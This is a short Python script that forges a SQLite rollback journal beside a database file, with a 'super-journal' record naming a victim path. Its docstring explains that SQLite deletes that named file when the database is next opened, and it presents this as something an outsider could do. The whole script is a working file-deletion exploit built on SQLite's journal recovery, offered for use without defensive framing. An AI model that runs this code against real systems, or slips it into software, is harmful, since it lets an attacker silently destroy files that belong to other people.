"""super_journal.py - puts a journal beside a store that names another file, as a stranger could.

usage: python3 super_journal.py STORE VICTIM

SQLite takes such a file for the "super-journal" of a transaction over several databases, and removes
it once the store has been opened.
"""
import os
import sqlite3
import struct
import sys

store, victim = sys.argv[1:3]
db = sqlite3.connect(store)
db.execute("PRAGMA journal_mode = DELETE")
db.close()
with open(store, "rb") as file:
    page = struct.unpack(">H", file.read(100)[16:18])[0]
page = 65536 if page == 1 else page
pages = os.path.getsize(store) // page
magic = bytes.fromhex("d9d505f920a163d7")
head = (magic + struct.pack(">IIIII", 0, 0, pages, 512, page)).ljust(512, b"\0")
name = victim.encode()
tail = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
with open(store + "-journal", "wb") as file:
    file.write(head + tail)
